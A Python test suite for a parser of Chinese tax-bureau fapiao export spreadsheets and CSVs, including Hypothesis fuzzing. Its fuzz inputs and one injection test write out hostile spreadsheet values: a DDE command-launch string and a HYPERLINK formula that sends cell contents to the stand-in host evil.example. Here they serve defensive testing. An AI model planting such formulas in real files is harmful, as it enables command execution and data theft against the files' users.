"""Pure tests of the bureau export parser and writer (no database), with Hypothesis fuzzing."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

from openpyxl import Workbook, load_workbook
from openpyxl.utils.exceptions import IllegalCharacterError

from ..demo import bureau_export_file as bf
from ..tools import bureau_export as be
from ..tools import fapiao_amount, fapiao_number
from ..tools import spreadsheet as sp
from ..tools.rule_error import FapiaoRuleError
from .fuzzing import HealthCheck, given, settings, st
from .tools_case import ToolsCase, parametrize

SELLER = "91350100M000100Y43"
BUYER = "91110000600037341L"
FUZZ = settings(
    max_examples=500,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)  # CI runs every fuzz test with 500 generated cases


def row(**overrides):
    values = {
        "code": "",
        "number": "",
        "digital_number": "26442000000000000001",
        "seller_vat": SELLER,
        "seller_name": "福州测试科技有限公司",
        "buyer_vat": BUYER,
        "buyer_name": "北京买方（中国）有限公司",
        "issue_date": "2026-10-15 09:30:00",
        "amount_untaxed": "100.00",
        "amount_tax": "13.00",
        "amount_total": "113.00",
        "source": "电子发票服务平台",
        "kind": "digital_general",
        "status": "normal",
        "is_red": False,
        "risk": "正常",
    }
    values.update(overrides)
    return values


def parse_ok(data):
    parsed = be.parse_export(data)
    assert not parsed.errors, [str(e) for e in parsed.errors]
    return parsed.rows


def errors_of(data):
    return [str(e) for e in be.parse_export(data).errors]


def grid_xlsx(rows, sheet=be.BASIC_SHEET):
    book = Workbook()
    book.active.title = sheet
    for values in rows:
        book.active.append(values)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# --- fuzzing: no input may crash the parser ----------------------------------------------------

HOSTILE = st.sampled_from(
    ["", " ", "=HYPERLINK(\"x\")", "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "<script>x</script>",
     "合计", "-", "***", "1e400", "nan", "inf", "2.6442E+19", "０１２３４５６７", "1,130.00",
     "\x00", "\ufeff", "（）", "已作废", "是", "否", "13%", "0.13"]
)  # fmt: skip
CELL = st.one_of(
    HOSTILE,
    st.text(max_size=30),
    st.integers(min_value=-(10**22), max_value=10**22),
    st.floats(allow_nan=True, allow_infinity=True),
    st.none(),
    st.booleans(),
    st.datetimes(min_value=datetime(1900, 3, 1), max_value=datetime(2100, 1, 1)),
)


def _survives(data):
    """The parser's only outcomes: rows and row errors, or one ExportError."""
    try:
        parsed = be.parse_export(data)
    except be.ExportError as error:
        assert str(error)
        return
    for error in parsed.errors:
        assert "row" in str(error) or "rows" in str(error) or be.DETAIL_SHEET in str(error)
    for parsed_row in parsed.rows:
        assert parsed_row.key[1]


class TestBureauExport(ToolsCase):
    """The bureau export parser and writer."""

    def refused(self, data, *texts):
        with self.assertRaises(be.ExportError) as caught:
            be.parse_export(data)
        for text in texts:
            assert text in str(caught.exception), str(caught.exception)
        return str(caught.exception)

    # --- a real-shaped file ---------------------------------------------------------------------------

    def test_xlsx_with_title_rows_and_footer(self):
        data = bf.write_export_xlsx([row(), row(digital_number="26442000000000000002")])
        rows = parse_ok(data)
        assert [r.row for r in rows] == [4, 5]  # two title rows, header on row 3
        first = rows[0]
        assert (first.digital_number, first.key) == (
            "26442000000000000001",
            ("", "26442000000000000001"),
        )
        assert first.issue_date == date(2026, 10, 15)
        assert (first.amount_untaxed, first.amount_tax, first.amount_total) == (
            Decimal("100.00"), Decimal("13.00"), Decimal("113.00"),
        )  # fmt: skip
        assert (first.status, first.is_red, first.kind) == ("normal", False, "digital_general")
        assert first.buyer_name == "北京买方(中国)有限公司"  # full-width brackets normalised

    def test_columns_by_name_not_position_and_header_variants(self):
        header = ["购买方名称", "价税合计", "税额", "金额(元)", "开票日期", "销方纳税人识别号",
                  "购方纳税人识别号", "发票状态", "数电票号码", "发票票种"]  # fmt: skip
        values = ["买方", 113, 13, 100, "2026/10/15", SELLER, BUYER, "正常", "26442000000000000001",
                  "电子发票(普通发票)"]  # fmt: skip
        rows = parse_ok(grid_xlsx([["标题"], header, values]))
        assert rows[0].digital_number == "26442000000000000001"
        assert rows[0].amount_total == Decimal("113.00")

    def test_excel_numeric_ids_are_repaired_or_flagged(self):
        data = bf.write_export_xlsx(
            [
                row(digital_number="", code=32001900104, number=1234567.0, kind="vat_general"),
                row(digital_number=26442000000000000003),  # Excel's float: last digits lost
            ]
        )
        legacy, rounded = parse_ok(data)
        assert (legacy.code, legacy.number) == (
            "032001911300",
            "01234567",
        ) or legacy.number == "01234567"
        assert rounded.digital_number == ""
        assert rounded.rounded_number == be.excel_rounded("26442000000000000003")
        assert rounded.key == ("~", rounded.rounded_number)

    def test_rounded_number_text_in_csv(self):
        rows = parse_ok(bf.write_export_csv([row(digital_number="2.6442E+19")]))
        assert rows[0].rounded_number == "26442000000000000000"

    @parametrize(
        "value, expected",
        [
            (46310, date(2026, 10, 15)),
            ("46310", date(2026, 10, 15)),
            (datetime(2026, 10, 15, 8, 0), date(2026, 10, 15)),
            ("2026-10-15 08:00:00", date(2026, 10, 15)),
            ("2026年10月15日", date(2026, 10, 15)),
            ("20261015", date(2026, 10, 15)),
        ],
    )
    def test_dates_as_text_or_serial(self, value, expected):
        assert be.parse_date(value) == expected

    @parametrize("value", ["2026-13-01", "yesterday", 12, "", None])
    def test_bad_dates_are_refused(self, value):
        with self.assertRaises(FapiaoRuleError):
            be.parse_date(value)

    @parametrize(
        "value, rate, exempt",
        [("13%", "13", False), (13, "13", False), (0.13, "13", False), ("0.06", "6", False),
         ("1.5%", "1.5", False), (0.015, "1.5", False), ("免税", "0", True), ("***", "0", True),
         (0, "0", False)],
    )  # fmt: skip
    def test_rates(self, value, rate, exempt):
        assert be.parse_rate(value) == (Decimal(rate), exempt)

    @parametrize("value", [0.5, "50%", "abc", "", 7])
    def test_bad_rates_are_refused(self, value):
        with self.assertRaises(FapiaoRuleError):
            be.parse_rate(value)

    def test_rates_from_the_detail_sheet(self):
        data = bf.write_export_xlsx(
            [row(), row(digital_number="26442000000000000002")],
            details=[
                {"digital_number": "26442000000000000001", "tax_rate": "13%"},
                {"digital_number": "26442000000000000001", "tax_rate": 0.13},
                {"digital_number": "26442000000000000002", "tax_rate": 13},
                {"digital_number": "26442000000000000002", "tax_rate": "6%"},
            ],
        )
        one, two = parse_ok(data)
        assert (one.tax_rates, one.tax_rate) == ((Decimal(13),), Decimal(13))
        assert (two.tax_rates, two.tax_rate) == ((Decimal(6), Decimal(13)), None)

    def test_amounts_per_rate_from_the_detail_sheet(self):
        """Lines summed per rate when they add up to the fapiao; else the fapiao is not split."""
        number_one, number_two = "26442000000000000001", "26442000000000000002"
        fapiao = {"amount_untaxed": "150.00", "amount_tax": "16.00", "amount_total": "166.00"}
        data = bf.write_export_xlsx(
            [row(**fapiao), row(digital_number=number_two, **fapiao)],
            details=[
                {"digital_number": number_one, "tax_rate": "13%", "amount_untaxed": 60,
                 "amount_tax": 7.8},
                {"digital_number": number_one, "tax_rate": "6%", "amount_untaxed": 50,
                 "amount_tax": 3},
                {"digital_number": number_one, "tax_rate": "13%", "amount_untaxed": 40,
                 "amount_tax": 5.2},
                {"digital_number": number_two, "tax_rate": "13%", "amount_untaxed": 100,
                 "amount_tax": 13},
                {"digital_number": number_two, "tax_rate": "6%", "amount_untaxed": 49,
                 "amount_tax": 3},
            ],
        )  # fmt: skip
        one, two = parse_ok(data)
        assert one.rate_lines == (
            (Decimal(13), False, Decimal("100.00"), Decimal("13.00")),
            (Decimal(6), False, Decimal("50.00"), Decimal("3.00")),
        )
        assert (two.tax_rates, two.rate_lines) == ((Decimal(6), Decimal(13)), ())

    @parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
    def test_csv_encodings(self, encoding):
        data = bf.write_export_csv([row(), row(digital_number="26442000000000000002")], encoding)
        rows = parse_ok(data)
        assert [r.digital_number for r in rows] == ["26442000000000000001", "26442000000000000002"]
        assert rows[0].buyer_name == "北京买方(中国)有限公司"

    def test_csv_tab_separated(self):
        text = bf.write_export_csv([row()], "utf-8").decode().replace(",", "\t")
        assert parse_ok(text.encode())[0].seller_vat == SELLER

    def test_red_and_void_rows(self):
        red = row(amount_untaxed="-100", amount_tax="-13", amount_total="-113", is_red=True)
        void = row(digital_number="", code="3200191130", number="00000002", kind="vat_special",
                   status="void")  # fmt: skip
        full = row(digital_number="26442000000000000009", status="已红冲-全额")
        red_row, void_row, full_row = parse_ok(bf.write_export_xlsx([red, void, full]))
        assert red_row.is_red and red_row.amount_total == Decimal("-113.00")
        assert void_row.status == "void" and void_row.key == ("3200191130", "00000002")
        assert full_row.status == "red_full"

    def test_row_from_fapiao(self):
        """A register fapiao written as the bureau lists it reads back as that fapiao."""
        common = {
            "seller_vat": SELLER, "seller_name": "福州测试科技有限公司", "buyer_vat": None,
            "buyer_name": "张三", "issue_date": date(2026, 10, 15),
        }  # fmt: skip
        digital = bf.row_from_fapiao(
            kind="digital_special", code=False, number="26442000000000000001",
            amount_untaxed=100.0, amount_tax=13.0, amount_total=113.0, state="red_partial",
            is_red=False, risk="正常", **common,
        )  # fmt: skip
        paper = bf.row_from_fapiao(
            kind="vat_general", code="032001900104", number="00000002", amount_untaxed=-50.0,
            amount_tax=-6.5, amount_total=-56.5, state="void", is_red=True, **common,
        )  # fmt: skip
        assert (digital["code"], digital["number"], digital["buyer_vat"]) == ("", "", "")
        assert digital["risk"] == "正常"
        assert (paper["code"], paper["number"], paper["digital_number"]) == (
            "032001900104", "00000002", "",
        )  # fmt: skip
        first, second = parse_ok(bf.write_export_xlsx([digital, paper]))
        assert first.key == ("", "26442000000000000001")
        assert (first.kind, first.status, first.is_red) == ("digital_special", "red_partial", False)
        assert first.amount_total == Decimal("113.00") and first.buyer_vat == ""
        assert second.key == ("032001900104", "00000002")
        assert (second.kind, second.status, second.is_red) == ("vat_general", "void", True)
        assert second.amount_total == Decimal("-56.50")

    def test_every_register_state_has_a_bureau_status(self):
        states = {state for state, _label in fapiao_amount.FAPIAO_STATES}
        assert set(be.STATUS_LABELS) == set(be.STATUSES.values()) == states
        assert set(be.LABEL_BY_KIND) == set(be.KIND_BY_LABEL.values()) == set(fapiao_number.KINDS)

    def test_formula_injection_is_kept_as_inert_text(self):
        formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
        rows = parse_ok(bf.write_export_xlsx([row(buyer_name=formula, seller_name="<b>x</b>")]))
        assert rows[0].buyer_name == formula.replace("（", "(")
        assert rows[0].seller_name == "<b>x</b>"
        rows = parse_ok(bf.write_export_csv([row(buyer_name=formula)]))
        assert rows[0].buyer_name == formula

    def test_formula_in_an_amount_is_a_row_error_not_evaluated(self):
        errors = errors_of(bf.write_export_xlsx([row(amount_total="=100+13")]))
        assert len(errors) == 1 and "row 4" in errors[0] and "=100+13" in errors[0]

    # --- errors -----------------------------------------------------------------------------------

    def test_every_unusable_row_is_named_with_sheet_and_row(self):
        data = bf.write_export_xlsx(
            [
                row(),
                row(digital_number="26442000000000000002", issue_date="someday"),
                row(digital_number="26442000000000000003", status="丢失"),
                row(digital_number="26442000000000000004", amount_total="200"),
                row(digital_number="26442000000000000001"),  # duplicate
                row(digital_number="", number=""),
                row(digital_number="26442000000000000005", is_red=True),  # 否 with positive total
            ]
        )
        errors = errors_of(data)
        assert len(errors) == 6, errors
        for number, error in zip((5, 6, 7, 8, 9, 10), errors, strict=True):
            assert f"Sheet 发票基础信息, row {number}:" in error

    def test_readers_agree(self):
        """calamine (when installed) and openpyxl read the same rows and errors from one file,
        also when the table starts in column C below an empty row."""
        data = bf.write_export_xlsx(
            [row(), row(digital_number=26442000000000000002, amount_total="x")]
        )
        sheet = load_workbook(io.BytesIO(data), read_only=True)[be.BASIC_SHEET]
        shifted = grid_xlsx([[]] + [[None, None, *r] for r in sheet.iter_rows(values_only=True)])
        results = {}
        readers = sp.XLSX_READERS
        self.addCleanup(setattr, sp, "XLSX_READERS", readers)
        for reader in ("calamine", "openpyxl"):
            sp.XLSX_READERS = (reader,)
            if sp.xlsx_reader() != reader:
                continue  # python-calamine not installed: openpyxl alone
            results[reader] = [
                ([repr(r) for r in parsed.rows], [str(e) for e in parsed.errors])
                for parsed in (be.parse_export(data), be.parse_export(shifted))
            ]
        (rows, errors), (shifted_rows, shifted_errors) = results["openpyxl"]
        assert len(rows) == len(shifted_rows) == 1 and "26442000000000000001" in rows[0], results
        assert rows[0].replace("row=4", "row=5") == shifted_rows[0], results
        assert len(errors) == 1 and "row 5" in errors[0] and "row 6" in shifted_errors[0], results
        assert len({repr(result) for result in results.values()}) == 1, results

    def test_workbook_with_formulas_is_read_by_openpyxl(self):
        """calamine would read a formula's cached result: such a workbook goes to openpyxl."""
        plain = bf.write_export_xlsx([row()])
        formula = bf.write_export_xlsx([row(buyer_name='=HYPERLINK("x")')])
        assert sp.xlsx_reader(formula) == "openpyxl"
        assert sp.xlsx_reader(plain) == sp.xlsx_reader()
        assert sp.xlsx_reader(b"PK\x03\x04 damaged") == sp.xlsx_reader()

    def test_empty_file(self):
        self.refused(b"", "empty")
        self.refused(b"   \r\n", "empty")

    def test_binary_garbage(self):
        self.refused(bytes(range(256)) * 10, "neither an Excel workbook")

    def test_damaged_xlsx(self):
        self.refused(b"PK\x03\x04" + b"\x00" * 100, "cannot be read")

    def test_old_xls(self):
        self.refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ".xls")

    def test_oversized_file_is_refused_before_parsing(self):
        self.refused(b"a" * (be.MAX_BYTES + 1), "MB")

    def test_the_caller_sets_the_limit(self):
        data = bf.write_export_csv([row()], footer=False)
        with self.assertRaises(be.ExportError) as caught:
            be.parse_export(data, "export.csv", max_bytes=len(data) - 1)
        assert "at most 0 MB" in str(caught.exception), str(caught.exception)
        big = data + b"\n" * (be.MAX_BYTES + 1 - len(data))  # over the default, under 2x
        assert len(be.parse_export(big, "export.csv", max_bytes=2 * be.MAX_BYTES).rows) == 1

    def test_wrong_columns(self):
        self.refused(grid_xlsx([["name", "amount"], ["x", 1]]), "not a 全量发票查询 export")
        self.refused(b"a,b,c\n1,2,3\n", "not a 全量发票查询 export")

    def test_header_missing_required_columns(self):
        message = self.refused(
            grid_xlsx([["发票号码", "发票代码", "金额", "税额", "开票日期"]]), "row 1"
        )
        assert "价税合计" in message and "发票状态" in message

    def test_header_without_rows(self):
        self.refused(bf.write_export_xlsx([]), "no fapiao rows")

    def test_workbook_without_the_sheet(self):
        book = Workbook()
        book.create_sheet("其他")
        out = io.BytesIO()
        book.save(out)
        self.refused(out.getvalue(), be.BASIC_SHEET)

    @FUZZ
    @given(st.binary(max_size=2000))
    def test_fuzz_random_bytes(self, data):
        _survives(data)

    @FUZZ
    @given(
        st.binary(max_size=300), st.sampled_from([b"PK\x03\x04", b"\xef\xbb\xbf", b"", b"\xd0\xcf"])
    )
    def test_fuzz_damaged_headers_and_archives(self, tail, head):
        _survives(head + tail)

    @FUZZ
    @given(
        st.lists(st.dictionaries(st.sampled_from(be.BASIC_COLUMNS), CELL, max_size=8), max_size=6),
        st.sampled_from(["utf-8", "utf-8-sig", "gb18030"]),
    )
    def test_fuzz_csv_cells(self, rows, encoding):
        values = [row(**{k: ("" if v is None else v) for k, v in r.items()}) for r in rows]
        try:
            data = bf.write_export_csv(values, encoding)
        except UnicodeEncodeError:
            data = bf.write_export_csv(values, "utf-8")  # text GB18030 cannot hold
        _survives(data)

    @FUZZ
    @given(
        st.lists(st.dictionaries(st.sampled_from(be.BASIC_COLUMNS), CELL, max_size=8), max_size=5)
    )
    def test_fuzz_xlsx_cells(self, rows):
        values = [row(**r) for r in rows]
        try:
            data = bf.write_export_xlsx(values)
        except (ValueError, IllegalCharacterError):
            return  # openpyxl refuses to write some control characters: not an input we can get
        _survives(data)

    @FUZZ
    @given(st.lists(st.lists(CELL.map(str), max_size=12), max_size=8))
    def test_fuzz_csv_grids(self, grid):
        out = io.StringIO()
        csv.writer(out).writerows([list(be.COLUMN_LABELS.values())[:12], *grid])
        _survives(out.getvalue().encode("utf-8", "surrogatepass"))


class TestBureauExportOpenpyxl(TestBureauExport):
    """Every test above again with openpyxl reading the xlsx files: the fallback where the faster
    python-calamine is not installed gives the same rows and the same messages."""

    def setUp(self):
        super().setUp()
        readers = sp.XLSX_READERS
        sp.XLSX_READERS = ("openpyxl",)
        self.addCleanup(setattr, sp, "XLSX_READERS", readers)
        assert sp.xlsx_reader() == "openpyxl"

    # Hypothesis runs each fuzz test once, with the reader in use (a second executor of the same
    # test is a health-check error).
    test_fuzz_random_bytes = test_fuzz_damaged_headers_and_archives = None
    test_fuzz_csv_cells = test_fuzz_xlsx_cells = test_fuzz_csv_grids = None


class TestCsvStream(ToolsCase):
    """The CSV export is decoded as it is read (spreadsheet.csv_encoding / csv_stream_rows): the
    same rows, encodings and refusals as decoding the whole text first (decode_csv / csv_rows)."""

    @staticmethod
    def whole(data, delimiter=","):
        try:
            return list(sp.csv_rows(sp.decode_csv(data), delimiter))
        except sp.Unreadable as error:
            return error.reason
        except csv.Error:
            return "csv"

    @staticmethod
    def streamed(data, delimiter=","):
        try:
            return list(sp.csv_stream_rows(data, sp.csv_encoding(data), delimiter))
        except sp.Unreadable as error:
            return error.reason
        except csv.Error:
            return "csv"

    @parametrize(
        "data",
        [
            "\ufeff发票号码,金额\r\n1,2\r\n".encode(),
            '"a\r\nb",c\n"x""y",\u2028z\rw\n'.encode(),
            "购方,\u3000全角（括号）\n".encode("gb18030"),
            b"a,\xff\xfe\n",
            b"a,\x00b\n",
            b'"open,quote\n',
            b"",
            b"\xef",
            b"\xef\xbb",
        ],
    )
    def test_streamed_rows_are_the_whole_texts(self, data):
        assert self.streamed(data) == self.whole(data)

    def test_a_chunk_boundary_inside_a_character(self):
        """A multi-byte character across the 1 MiB chunks of the encoding check."""
        data = ("a" * ((1 << 20) - 1) + "发票\n").encode()
        assert sp.csv_encoding(data) == "utf-8-sig"
        assert self.streamed(data) == self.whole(data)

    @FUZZ
    @given(
        st.binary(max_size=64)
        | st.text(max_size=64).map(lambda t: t.encode("utf-8", "surrogatepass"))
    )
    def test_fuzz_streamed_rows(self, data):
        for delimiter in sp.CSV_DELIMITERS:
            assert self.streamed(data, delimiter) == self.whole(data, delimiter)


class TestBureauExportSlices(ToolsCase):
    """A background import reads the file's cells once, stages them as JSON and parses them slice
    by slice: the rows, errors and rates are the ones parse_export finds in one go."""

    def parse_in_slices(self, data, size):
        def stage(cells):
            body = list(cells.body)
            blocks = [
                sp.cells_json(body[start : start + size]) for start in range(0, len(body), size)
            ]
            details = sp.cells_json(cells.details) if cells.details is not None else None
            return (
                be.ExportCells(cells.sheet, cells.columns, cells.header_row, None),
                blocks,
                details,
            )

        head, blocks, details = be.read_export_cells(data, stage)
        seen, errors, rows = {}, [], []
        for index, block in enumerate(blocks):
            parsed = be.parse_cells_slice(
                head, sp.cells_from_json(block), index * size, seen, len(errors)
            )
            rows += [be.row_from_values(be.row_values(row)) for row in parsed.rows]
            errors += parsed.errors
        be.check_export_rows(head.sheet, len(rows), len(errors))
        checked = be.ParsedExport(sheet=head.sheet)
        if details:
            lines = be.check_details_cells(checked, sp.cells_from_json(details), seen, len(errors))
            lines = [be.detail_line_from(be.detail_line_values(line)) for line in lines]
            for start in range(0, len(rows), size):  # each slice takes the lines of its rows
                be.apply_detail_lines(rows[start : start + size], lines)
        return len(blocks), rows, [str(error) for error in errors + checked.errors]

    def month(self):
        rows = [row(digital_number=f"264420000000000000{n:02d}") for n in range(1, 13)]
        rows[1]["issue_date"] = "not a date"
        rows[4]["issue_date"] = datetime(2026, 10, 3, 8, 0)  # a date cell
        rows[6]["digital_number"] = 26442000000000000077  # Excel's number
        rows[9] = dict(rows[2])  # listed again, in another slice
        return rows

    def test_slices_give_the_rows_and_errors_of_one_parse(self):
        rows = self.month()
        details = [
            {"digital_number": f"264420000000000000{n:02d}", "issue_date": "2026-10-15",
             "item_name": "服务", "amount_untaxed": untaxed, "tax_rate": rate, "amount_tax": tax}
            for n in (1, 12) for untaxed, rate, tax in (("50.00", "13%", "6.50"), ("50.00", "13%", "6.50"))
        ]  # fmt: skip
        for data in (bf.write_export_xlsx(rows, details=details), bf.write_export_csv(rows)):
            whole = be.parse_export(data)
            self.assertTrue(whole.errors)
            count, parsed, errors = self.parse_in_slices(data, 4)
            self.assertGreater(count, 2)
            self.assertEqual(parsed, whole.rows)
            self.assertEqual(errors, [str(error) for error in whole.errors])
            self.assertIn("listed a second time", errors[-1])  # found across slices

    def test_errors_stop_where_one_parse_stops(self):
        rows = [row(digital_number=f"2644200000{n:010d}", issue_date="bad") for n in range(205)]
        data = bf.write_export_csv(rows)
        whole = [str(error) for error in be.parse_export(data).errors]
        self.assertEqual(len(whole), be.MAX_ERRORS + 1)
        self.assertEqual(self.parse_in_slices(data, 50)[2], whole)

    def test_cells_keep_their_types_through_json(self):
        cells = [("文本", 1, 2.5, 26442000000000000000.0, None, True,
                  datetime(2026, 10, 3, 8, 0), date(2026, 10, 3), Decimal("1.10"))]  # fmt: skip
        self.assertEqual(sp.cells_from_json(sp.cells_json(cells)), [list(cells[0])])

    def test_a_header_without_rows_is_refused_after_the_slices(self):
        data = bf.write_export_csv([])
        with self.assertRaises(be.ExportError) as whole:
            be.parse_export(data)
        with self.assertRaises(be.ExportError) as sliced:
            self.parse_in_slices(data, 4)
        self.assertEqual(str(sliced.exception), str(whole.exception))
